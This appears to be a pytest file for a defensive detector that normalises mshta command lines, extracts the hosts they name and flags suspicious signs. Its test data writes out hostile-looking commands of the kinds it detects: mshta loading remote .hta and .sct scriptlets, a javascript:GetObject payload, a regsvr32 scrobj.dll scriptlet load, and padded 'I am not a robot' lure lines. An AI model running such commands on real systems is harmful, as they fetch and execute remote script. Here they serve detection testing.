"""What a command line says: templates that are equal where two runs are one use, hosts, and what is odd."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from douse.harden.preflight.commands import KEPT, LONGEST, odd, template, urls

GUID = "{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}"


@pytest.mark.parametrize(("one", "other"), [
    (f'"C:\\Windows\\System32\\mshta.exe" "C:\\Users\\anna\\a.hta" {GUID}{GUID}',
     f'mshta  "D:\\Users\\ben.b\\a.hta" {GUID}{GUID.lower()}'),
    ("mshta.exe http://app.corp.example/a.hta?user=anna&n=7", "mshta.exe http://app.corp.example/a.hta?user=b&n=88"),
    ("mshta.exe %TEMP%\\a.hta", "mshta.exe C:\\Users\\anna\\AppData\\Local\\Temp\\a.hta"),
    ("mshta.exe C:\\Windows\\x.hta 17", "mshta.exe %windir%\\x.hta 4711"),
    ("mshta.exe a.hta S-1-5-21-1-2-3-1104", "mshta.exe a.hta S-1-5-21-9-8-7-500"),
    ("mshta.exe a.hta 0123456789abcdef0123", "mshta.exe a.hta ffff456789abcdef0123"),
])
def test_two_runs_of_one_use_have_one_template(one: str, other: str) -> None:
    assert template(one) == template(other) != ""


@pytest.mark.parametrize(("one", "other"), [
    ("mshta.exe app1.hta", "mshta.exe app2.hta"),
    ("mshta.exe http://a.example/x.hta", "mshta.exe http://b.example/x.hta"),
    ("mshta.exe C:\\Tools\\x.hta", "mshta.exe C:\\Users\\anna\\x.hta"),
])
def test_two_uses_have_two(one: str, other: str) -> None:
    assert template(one) != template(other)


@pytest.mark.parametrize(("command", "found"), [
    ("mshta https://Verify.example/x.mp3", [("verify.example", "/x.mp3", 443)]),
    ("mshta http:\\\\203.0.113.9:8080\\a", [("203.0.113.9", "/a", 8080)]),
    ("mshta \\\\files.example@SSL@8443\\DavWWWRoot\\a.hta", [("files.example", "", 8443)]),
    ("mshta \\\\files.example@80\\a.hta", [("files.example", "", 80)]),
    ("mshta \\\\server\\share\\a.hta", []),
    ('mshta "javascript:GetObject(\'script:https://a.example/b.sct\')"', [("a.example", "/b.sct", 443)]),
    ("mshta http://a.example:99999999/", [("a.example", "/", 80)]),
])
def test_hosts_that_a_command_names(command: str, found: list[tuple[str, str, int]]) -> None:
    assert list(urls(command)) == found


@pytest.mark.parametrize(("command", "words"), [
    ("mshta javascript:close()", "javascript"), ("mshta VBScript:Close()", "javascript"),
    ("mshta about:<script>x</script>", "javascript"), ("mshta http://a.example/x.mp4", ".mp4"),
    ("mshta http://a.example/x.hta # Ich bin kein Roboter", "pasted"),
    ("mshta http://a.example/x.hta REM security check 7", "pasted"),
    (f"mshta http://a.example/{' ' * 80}x", "padded"), ("regsvr32 /s /i:http://a.example/b scrobj.dll", "scriptlet"),
])
def test_what_is_odd(command: str, words: str) -> None:
    assert any(words in one for one in odd(command, runs_scripts=True)), odd(command, runs_scripts=True)


@pytest.mark.parametrize("command", [
    '"C:\\Windows\\System32\\mshta.exe" "C:\\Program Files\\Contoso CRM\\Tools\\OrderForm.hta" ' + GUID * 2,
    "mshta.exe http://intranet.corp.example/app.hta?view=1", "", "wscript.exe //B //Nologo C:\\Windows\\logon.vbs",
    "msiexec.exe /i http://wsus.corp.example/a.msi /qn",
])
def test_what_is_not(command: str) -> None:
    assert odd(command, runs_scripts=True) == ()


def test_a_sign_behind_padding_is_seen_and_not_shown() -> None:
    command = f"mshta http://a.example/a.hta {' ' * 20_000}# I am not a robot"
    assert len(odd(command, runs_scripts=True)) == 2
    assert len(template(command)) <= KEPT


@given(st.text(alphabet=st.sampled_from("mshta.exe \"'\\/:@%{}[]()#$-_=&?<>|ab09\u2603\ud800\n"), max_size=200))
def test_any_text_gives_a_template(command: str) -> None:
    assert template(command) == template(command.strip())
    assert len(list(urls(command))) <= 9
    odd(command, runs_scripts=True)


@pytest.mark.parametrize("piece", [" ", "a", "\\\\a", "http:/", "%temp%", "0", "\"", "/i:", "about:", "script:", "{1"])
def test_no_text_is_slow(piece: str) -> None:
    command = (piece * LONGEST)[:LONGEST]
    begun = time.process_time()
    template(command)
    list(urls(command))
    odd(command, runs_scripts=True)
    assert time.process_time() - begun < 2
